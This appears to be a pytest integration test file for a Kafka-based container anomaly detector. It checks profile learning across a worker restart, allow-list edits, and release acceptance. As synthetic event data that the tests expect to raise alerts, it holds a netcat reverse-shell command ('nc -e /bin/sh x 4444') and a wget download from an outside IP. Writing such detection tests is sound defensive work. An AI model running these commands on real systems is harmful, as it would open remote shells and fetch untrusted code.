"""Baselines on a real Kafka broker: a `cadr worker` SIGKILLed in the middle of a workload's
learning window continues that profile after the restart (restored from the table's
changelog), and a profile edit published by the CLI applies without a restart."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from cadr.commands.profiles import allow_edit
from cadr.runtime import ChildProcess, spawn_cadr
from schemas.records import Dns, Event, EventKind, File, Network, Process, Source, Workload
from streams.profiles import publish_edits
from tests.pipeline_harness import consume_until, make_settings, publish

pytestmark = [pytest.mark.kafka, pytest.mark.slow]

SEC = 10**9
T0 = 1_780_000_000 * SEC
AGENTS = "enrich,detect,profiles"
KEY = "test/shop/Deployment/api"


@pytest.fixture
def settings(kafka_broker: Any, topic_prefix: str, tmp_path: Path):  # type: ignore[no-untyped-def]
    from cadr.runtime import ensure_topics_sync

    s = make_settings(kafka_broker.bootstrap, topic_prefix, tmp_path / "state", learning_window_s=3600.0)
    ensure_topics_sync(s)  # profile-edits too, with the events topic's partition count
    return s


def _wl() -> Workload:
    return Workload(
        cluster="test",
        namespace="shop",
        pod="api-6b7c8d-zz9xq",
        container="api",
        container_id="c0ffee01",
        workload_kind="Deployment",
        workload_name="api",
    )


def _ev(n: int, t: int, kind: EventKind, **blocks: Any) -> Event:
    return Event(event_id=f"kb-{n}", time=t, source=Source.TEST, kind=kind, workload=_wl(), **blocks)


def _opens(first: int, paths: list[str], start: int) -> list[Event]:
    return [
        _ev(
            first + i,
            start + i * SEC,
            EventKind.FILE_OPEN,
            process=Process(pid=7, exe="/app/server"),
            file=File(path=p),
        )
        for i, p in enumerate(paths)
    ]


def _worker(settings: Any, name: str) -> ChildProcess:
    return spawn_cadr(name, ["worker", "--agents", AGENTS], settings)


def _latest(records: list[dict[str, Any]]) -> dict[str, Any] | None:
    mine = [r for r in records if r.get("workload_key") == KEY and r.get("container") == "api"]
    return max(mine, key=lambda r: r["revision"]) if mine else None


def _has(files: list[str]) -> Any:
    def done(records: list[dict[str, Any]]) -> bool:
        p = _latest(records)
        return p is not None and set(files) <= set(p.get("files", []))

    return done


def test_worker_restarted_mid_learning_continues_the_profile(settings: Any) -> None:
    before = [f"/app/static/a{i}.js" for i in range(12)] + ["/etc/app/config.yaml"]
    after = [f"/app/templates/t{i}.html" for i in range(12)] + [
        "/var/run/secrets/kubernetes.io/serviceaccount/token"
    ]
    phase1 = [
        _ev(
            1,
            T0,
            EventKind.PROCESS_EXEC,
            process=Process(pid=7, exe="/app/server", args=["server", "--port", "8080"]),
        ),
        *_opens(10, before, T0 + SEC),
        _ev(
            40,
            T0 + 60 * SEC,
            EventKind.DNS_QUERY,
            process=Process(pid=7),
            dns=Dns(query="db.shop.svc.cluster.local"),
        ),
        _ev(
            41,
            T0 + 61 * SEC,
            EventKind.NET_CONNECT,
            process=Process(pid=7),
            network=Network(dst_ip="10.96.3.4", dst_port=5432),
        ),
    ]
    phase2 = [
        *_opens(100, after, T0 + 1200 * SEC),
        _ev(
            140,
            T0 + 1300 * SEC,
            EventKind.NET_CONNECT,
            process=Process(pid=7),
            network=Network(dst_ip="10.96.3.9", dst_port=6379),
        ),
    ]
    ending = [
        _ev(
            200,
            T0 + 3700 * SEC,
            EventKind.FILE_OPEN,
            process=Process(pid=7, exe="/app/server"),
            file=File(path="/app/late.txt"),
        )
    ]

    first = _worker(settings, "worker-1")
    try:
        asyncio.run(publish(settings, phase1))
        snaps = asyncio.run(consume_until(settings, "profiles", _has(before), timeout=180))
    finally:
        # SIGKILL: no shutdown, no final commit; whatever was acknowledged must be in the changelog
        first.proc.kill()
        first.proc.wait(10)
        first.stop()
    mid = _latest(snaps)
    assert mid is not None and mid.get("status", "learning") == "learning"  # the default is omitted

    second = _worker(settings, "worker-2")
    try:
        asyncio.run(publish(settings, phase2 + ending))
        snaps = asyncio.run(
            consume_until(
                settings, "profiles", lambda rs: (_latest(rs) or {}).get("status") == "complete", timeout=180
            )
        )
    finally:
        second.stop()
    final = _latest(snaps)
    assert final is not None, second.tail()
    # one profile, continued: the window did not restart and nothing learned before the kill is missing
    assert final["learning_started"] == T0
    assert final["learning_until"] == T0 + 3600 * SEC
    assert not final.get("started_mid_run", False)
    assert set(before) | set(after) <= set(final["files"])
    assert "/app/late.txt" not in final["files"]
    assert final["execs"] == {"/app/server": ["--port *"]}
    assert set(final["egress"]) == {"private:5432", "private:6379"}
    assert final["revision"] > mid["revision"]


def test_an_allow_edit_applies_without_a_restart(settings: Any) -> None:
    learn = [
        _ev(1, T0, EventKind.PROCESS_EXEC, process=Process(pid=7, exe="/app/server", args=["server"])),
        _ev(
            2,
            T0 + 3601 * SEC,
            EventKind.PROCESS_EXEC,
            process=Process(pid=8, exe="/app/server", args=["server"]),
        ),
    ]
    worker = _worker(settings, "worker")
    try:
        asyncio.run(publish(settings, learn))
        asyncio.run(
            consume_until(
                settings, "profiles", lambda rs: (_latest(rs) or {}).get("status") == "complete", timeout=180
            )
        )
        edit = allow_edit(KEY, "api", execs=["/usr/bin/curl"], user="test", reason="health checks")
        asyncio.run(publish_edits(settings, [edit]))
        asyncio.run(
            consume_until(
                settings,
                "profiles",
                lambda rs: "/usr/bin/curl" in (_latest(rs) or {}).get("execs", {}),
                timeout=120,
            )
        )
        probes = [
            _ev(
                10,
                T0 + 4000 * SEC,
                EventKind.PROCESS_EXEC,
                process=Process(pid=9, exe="/usr/bin/curl", args=["curl", "-s", "localhost:8080"]),
            ),
            _ev(
                11,
                T0 + 4001 * SEC,
                EventKind.PROCESS_EXEC,
                process=Process(pid=10, exe="/usr/bin/nc", args=["nc", "-e", "/bin/sh", "x", "4444"]),
            ),
        ]
        asyncio.run(publish(settings, probes))

        def nc_alerted(records: list[dict[str, Any]]) -> bool:
            return any(
                r["rule_id"] == "CADR-ANOM-0001" and r["event"]["process"]["exe"] == "/usr/bin/nc"
                for r in records
            )

        alerts = asyncio.run(consume_until(settings, "alerts", nc_alerted, timeout=120))
    finally:
        worker.stop()
    # the same partition carries both events in order: had curl alerted, it would be here already
    anomalies = [
        (a["rule_id"], a["event"]["process"]["exe"]) for a in alerts if a["rule_id"].startswith("CADR-ANOM-")
    ]
    assert anomalies == [("CADR-ANOM-0001", "/usr/bin/nc")]


def test_a_release_is_accepted_with_one_command(settings: Any) -> None:
    """A new image's new program is one notice; `cadr profiles accept-release` makes it the baseline."""
    import subprocess
    import sys

    from cadr.runtime import settings_env
    from tests.shapes import Node

    node = Node(cluster="test")
    old = node.pod(
        "shop", "api-6b7c8d-aaaaa", owner=("ReplicaSet", "api-6b7c8d"), containers={"api": "reg/api:1.0"}
    )
    new = node.pod(
        "shop", "api-9f8e7d-bbbbb", owner=("ReplicaSet", "api-9f8e7d"), containers={"api": "reg/api:1.1"}
    )
    server = node.process(old, "api", comm="server")
    learn = [
        node.exec(server, "/app/server", ["server"], at=1)[1],
        node.exec(server, "/app/server", ["server"], at=3601)[1],
    ]
    fresh = node.process(new, "api", comm="server")
    worker = _worker(settings, "worker")
    try:
        asyncio.run(publish(settings, learn))
        asyncio.run(
            consume_until(
                settings, "profiles", lambda rs: (_latest(rs) or {}).get("status") == "complete", timeout=180
            )
        )
        asyncio.run(publish(settings, [node.exec(fresh, "/usr/bin/certwatch", ["certwatch"], at=3700)[1]]))
        asyncio.run(
            consume_until(
                settings, "alerts", lambda rs: any(r["rule_id"] == "CADR-REL-0001" for r in rs), 120
            )
        )
        proc = subprocess.run(
            [sys.executable, "-m", "cadr.cli", "profiles", "accept-release", KEY, "--timeout", "60"],
            env=settings_env(settings),
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert proc.returncode == 0, proc.stderr
        asyncio.run(
            consume_until(
                settings,
                "profiles",
                lambda rs: (
                    (_latest(rs) or {}).get("image") == "reg/api:1.1" and "release" not in (_latest(rs) or {})
                ),
                timeout=120,
            )
        )
        asyncio.run(
            publish(
                settings,
                [
                    node.exec(fresh, "/usr/bin/certwatch", ["certwatch"], at=3800)[1],
                    node.exec(fresh, "/usr/bin/wget", ["wget", "http://203.0.113.7/x"], at=3801)[1],
                ],
            )
        )
        alerts = asyncio.run(
            consume_until(
                settings, "alerts", lambda rs: any(r["rule_id"] == "CADR-ANOM-0001" for r in rs), 120
            )
        )
    finally:
        worker.stop()
    told = [
        (a["rule_id"], a["event"]["process"]["exe"])
        for a in alerts
        if a["rule_id"].startswith(("CADR-ANOM", "CADR-REL"))
    ]
    # the notice once (for certwatch); after the acceptance certwatch is normal and wget is an anomaly
    assert told == [("CADR-REL-0001", "/usr/bin/certwatch"), ("CADR-ANOM-0001", "/usr/bin/wget")], told
